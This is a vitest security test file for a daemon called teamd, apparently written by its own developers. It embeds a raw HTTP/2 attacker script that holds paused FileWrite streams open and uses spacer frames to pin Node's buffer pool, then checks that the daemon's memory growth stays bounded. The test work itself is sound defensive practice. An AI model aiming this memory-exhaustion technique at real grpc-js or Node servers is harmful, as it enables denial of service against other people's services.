import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ensureSeatUser } from "../support/seat-user.js";
import { RAW_H2, memoryTarget, type MemoryTarget, mib, pausedStreamsAttack } from "../support/seat-memory-attack.js";
import { type TeamdHarness } from "../support/teamd-harness.js";

/**
 * seat-pool-pin-attack: boundDataFrames copies a chunk that is under half of its socket read with
 * Buffer.from, and Buffer.from of fewer than 4 KiB takes its bytes from node's shared 8 KiB Buffer
 * pool. A paused stream's 1 KiB frame (which passes the 1 KiB-average rule) followed in the same
 * read by a 4095-byte frame on a stream that IS read (a unary call's never-finished message: its
 * copy is garbage at once) lands each 1 KiB copy in a pool slab of its own: the held 1 KiB keeps
 * 8 KiB alive. Below: the original header of seat-paused-frames-attack.test.ts, whose attacker this
 * reuses (FileWrites waiting their turn are paused).
 *
 * Attacks docs/enforcement.md's "One seat cannot exhaust the daemon's memory through its socket"
 * (bound: 8 connections x 16 streams x (256 KiB message + 256 KiB window) = 64 MiB a seat) on the
 * path seat-frames-attack.test.ts does not reach: a stream grpc-js has paused.
 *
 * grpc-js pauses the node http2 stream once it has decoded a whole message, until the handler
 * asks for the next (server.ts's readOneAhead: one message ahead). While it is paused the seat
 * may still send up to the stream's flow-control window (SEAT_STREAM_WINDOW), and node hands each
 * DATA frame to the stream's Readable as its own Buffer (a view of the socket read it came in,
 * which it keeps alive) — the bounded decoder (message-decoder.ts) never sees them.
 *
 * The stream the daemon does not read: FileWrite. A seat holds at most 2 file contents in the
 * daemon at once; its further writes wait their turn (daemon/seat/files.ts) after reading their
 * header, holding one message ahead. Every stream here sends a header (size 8 MiB), a 1-byte data
 * message, then a third message it never finishes: the two writes that get the turn read it into
 * the bounded decoder and wait for its end forever, holding the turn; every other stream is
 * paused with its data message unread, and its third message's bytes go to node's paused stream.
 * (Push is no candidate: a fifth push is refused at once, git.concurrent; a unary call is read on
 * after its message, for the half-close, so its further bytes reach the bounded decoder.)
 *
 * Shapes: FRAME payload bytes per DATA frame; FILLER bytes of unknown-type HTTP/2 frames (which
 * HTTP/2 says to ignore, outside flow control) after each DATA frame, so that each DATA frame
 * arrives in a socket read of its own.
 */
const asRoot = process.getuid?.() === 0;
if (asRoot) ensureSeatUser();

const KIB = 1024;
const MIB = 1024 * KIB;

/**
 * The attacker: CONNS connections to SOCKET, STREAMS FileWrite streams each, each sending its
 * header and a 1-byte data message in one DATA frame, then a third message's prefix declaring
 * SIZE bytes and up to SIZE - 1 of them in DATA frames of FRAME bytes (each followed by FILLER
 * bytes of unknown frames), within the flow-control windows the server grants (tracked from its
 * SETTINGS and WINDOW_UPDATEs). It answers SETTINGS and PING, and once nothing more can be sent
 * for QUIET ms (the paused streams' windows are spent) holds everything HOLD ms, then prints one
 * JSON line of what it saw (or at MAX ms in all).
 */
const ATTACK = `${RAW_H2}
const net = require("net");
const [socket, conns, streams, size, frame, spacerArg, quiet, hold, max] = process.argv.slice(1);
const C = +conns, S = +streams, N = +size, F = +frame, SP = +spacerArg, Q = +quiet, H = +hold;
const lit = (n, v) => { n = Buffer.from(n); v = Buffer.from(v); return Buffer.concat([Buffer.from([0, n.length]), n, Buffer.from([v.length]), v]); };
const blockFor = (path) => Buffer.concat([lit(":method", "POST"), lit(":scheme", "http"), lit(":path", path), lit(":authority", "seat"),
  lit("content-type", "application/grpc"), lit("te", "trailers"), lit("teamd-protocol", process.env.PROTOCOL)]);
const block = blockFor("/teamd.v1.ShimService/FileWrite");
const spacerBlock = blockFor("/teamd.v1.ShimService/Checkpoint");
const varint = (n) => { const o = []; while (n > 127) { o.push((n & 127) | 128); n = Math.floor(n / 128); } o.push(n); return Buffer.from(o); };
const field = (no, bytes) => Buffer.concat([Buffer.from([(no << 3) | 2]), varint(bytes.length), bytes]);
const grpcMsg = (body) => { const p = Buffer.alloc(5); p.writeUInt32BE(body.length, 1); return Buffer.concat([p, body]); };
const firstTwo = (tag) => Buffer.concat([
  grpcMsg(field(1, Buffer.concat([field(1, Buffer.from("pool-" + tag)), field(2, Buffer.from("src/pool-" + tag + ".txt")), field(5, Buffer.from("m")), Buffer.from([6 << 3]), varint(8 * 1024 * 1024)]))),
  grpcMsg(field(2, Buffer.from("a"))),
]);
const stats = { conns: 0, closed: 0, goaway: 0, rst: 0, ended: 0, sent: 0, frames: 0, spacerFrames: 0, spacerStreams: 0, spacerRst: 0, wire: 0, full: 0, sendMs: -1 };
const payload = Buffer.alloc(Math.max(F, SP, 16), 0x61);
const t0 = Date.now();
let lastSent = -1, lastChange = Date.now(), finishing = false;
const finish = () => { console.log(JSON.stringify(stats)); process.exit(0); };
const sts = [];
setInterval(() => {
  if (stats.sent !== lastSent) { lastSent = stats.sent; lastChange = Date.now(); return; }
  if (!finishing && stats.sent > 0 && Date.now() - lastChange >= Q) {
    finishing = true; stats.sendMs = lastChange - t0; stats.full = sts.filter((s) => s.left === 0).length; setTimeout(finish, H);
  }
}, 250);
// SPACER_FRAMES spacer frames of SP bytes fit one Checkpoint message declared N bytes, never finished.
const SPACER_FRAMES = SP > 0 ? Math.floor((N - 1) / SP) : 0;
function conn(c) {
  const sock = net.connect(socket);
  let connWin = 65535, initWin = 65535, gone = false, pumping = false, nextId = 1, settled = false;
  const st = new Map();
  // The spacer: a unary call whose one message (declared N bytes) is read into the bounded
  // decoder and never finished; reset by us once SPACER_FRAMES frames went, and replaced.
  let spacer = undefined;
  const newSpacer = (out) => {
    const id = nextId; nextId += 2;
    const pre = Buffer.alloc(5); pre.writeUInt32BE(N, 1);
    spacer = { id, win: initWin - 5, sent: 0, dead: false };
    out.push(Buffer.concat([u(spacerBlock.length, 1, 4, id), spacerBlock]), u(5, 0, 0, id), pre);
    connWin -= 5; stats.spacerStreams++;
  };
  sock.on("error", () => {});
  sock.on("connect", () => stats.conns++);
  sock.on("close", () => { stats.closed++; gone = true; });
  sock.write(Buffer.from("PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n"));
  sock.write(u(0, 4, 0, 0));
  for (let i = 0; i < S; i++) {
    const id = nextId; nextId += 2;
    const s = { win: 65535, left: N - 1, first: firstTwo(c + "-" + i), started: false, prefixed: false, dead: false };
    st.set(id, s); sts.push(s);
    sock.write(Buffer.concat([u(block.length, 1, 4, id), block]));
  }
  sock.on("data", frameReader((type, flags, id, p) => {
    if (type === 4 && !(flags & 1)) {
      settled = true;
      for (let o = 0; o + 6 <= p.length; o += 6) if (p.readUInt16BE(o) === 4) { const v = p.readUInt32BE(o + 2); for (const s of st.values()) s.win += v - initWin; if (spacer) spacer.win += v - initWin; initWin = v; }
      sock.write(u(0, 4, 1, 0));
    } else if (type === 6 && !(flags & 1)) sock.write(Buffer.concat([u(8, 6, 1, 0), p]));
    else if (type === 8) { const inc = p.readUInt32BE(0) & 0x7fffffff; if (id === 0) connWin += inc; else if (st.has(id)) st.get(id).win += inc; else if (spacer && spacer.id === id) spacer.win += inc; }
    else if (type === 3) { if (st.has(id)) { stats.rst++; st.get(id).dead = true; } else { stats.spacerRst++; if (spacer && spacer.id === id) spacer.dead = true; } }
    else if (type === 7) stats.goaway++;
    else if (type === 1 && (flags & 1)) { if (st.has(id)) { stats.ended++; st.get(id).dead = true; } else if (spacer && spacer.id === id) spacer.dead = true; }
  }, pump));
  function pump() {
    // Once the server's SETTINGS are in (its windows, whatever they are).
    if (pumping || gone || !settled) return;
    const out = []; let bytes = 0;
    for (const [id, s] of st) {
      if (s.dead) continue;
      if (!s.started) {
        if (s.win < s.first.length || connWin < s.first.length) continue;
        out.push(u(s.first.length, 0, 0, id), s.first); s.win -= s.first.length; connWin -= s.first.length; s.started = true; bytes += 9 + s.first.length;
      }
      if (!s.prefixed) {
        if (s.win < 5 || connWin < 5) continue;
        const pre = Buffer.alloc(5); pre.writeUInt32BE(N, 1);
        out.push(u(5, 0, 0, id), pre); s.win -= 5; connWin -= 5; s.prefixed = true; bytes += 14;
      }
    }
    // Round robin: one F-byte frame of each paused stream, each followed by an SP-byte spacer frame.
    let progress = true;
    while (progress && bytes < 1 << 20) {
      progress = false;
      for (const [id, s] of st) {
        if (s.dead || !s.prefixed || s.left <= 0 || s.win <= 0 || connWin <= 0) continue;
        if (SP > 0) {
          if (spacer === undefined || spacer.dead || spacer.sent >= SPACER_FRAMES) {
            if (spacer !== undefined && !spacer.dead) { out.push(Buffer.concat([u(4, 3, 0, spacer.id), Buffer.from([0, 0, 0, 8])])); }
            newSpacer(out);
          }
          if (spacer.win < SP || connWin < SP + F) break;
        }
        const n = Math.min(F, s.left, s.win, connWin);
        out.push(u(n, 0, 0, id), payload.subarray(0, n));
        s.left -= n; s.win -= n; connWin -= n; bytes += 9 + n; stats.sent += n; stats.frames++; stats.wire += 9 + n;
        if (SP > 0) {
          out.push(u(SP, 0, 0, spacer.id), payload.subarray(0, SP));
          spacer.win -= SP; connWin -= SP; spacer.sent++; bytes += 9 + SP; stats.spacerFrames++; stats.wire += 9 + SP;
        }
        progress = true;
      }
    }
    if (out.length === 0) return;
    if (sock.write(Buffer.concat(out))) setImmediate(pump);
    else { pumping = true; sock.once("drain", () => { pumping = false; pump(); }); }
  }
}
for (let c = 0; c < C; c++) conn(c);
setTimeout(finish, +max);
`;

interface Shape {
  readonly conns: number;
  readonly streams: number;
  /** Payload bytes per DATA frame. */
  readonly frame: number;
  /** Bytes of the spacer DATA frame (on a unary call read into the bounded decoder) after each paused stream's DATA frame; 0: none. */
  readonly spacer: number;
  /** The attacker's whole run, ms (default 200 s). */
  readonly maxMs?: number;
}

describe.runIf(process.platform === "linux")("escape: one seat against the daemon's memory, on streams grpc-js has paused", () => {
  let target: MemoryTarget;
  let h: TeamdHarness;

  /** Runs the attacker in seat alpha, the daemon's RSS sampled while it runs. */
  const attack = (label: string, shape: Shape) => pausedStreamsAttack(target, ATTACK, label, shape, { name: "spacer", bytes: shape.spacer });

  beforeAll(async () => {
    target = await memoryTarget("teamd-pool-");
    h = target.h;
  }, 120_000);

  afterAll(async () => {
    await h?.cleanup();
  }, 60_000);

  it("attack: each paused 1 KiB DATA frame followed by a 4095-byte frame on a stream that is read: each copy pins its own 8 KiB Buffer pool slab", async () => {
    const shape: Shape = { conns: 8, streams: 15, frame: KIB, spacer: 4095 };
    const r = await attack("attack", shape);
    expect(r.growth, `the daemon grew by ${mib(r.growth)} MiB for ${mib(r.stats.sent)} MiB held on paused streams`).toBeLessThan(96 * MIB);
    expect((await h.shim("alpha", "whoami", "--json")).code).toBe(0);
  }, 300_000);

  it("control: 8 connections x 15 paused FileWrites, their windows in 1 KiB DATA frames, no spacer", async () => {
    const shape: Shape = { conns: 8, streams: 15, frame: KIB, spacer: 0 };
    const r = await attack("control", shape);
    expect(r.growth).toBeLessThan(96 * MIB);
    expect((await h.shim("alpha", "whoami", "--json")).code).toBe(0);
  }, 300_000);
});
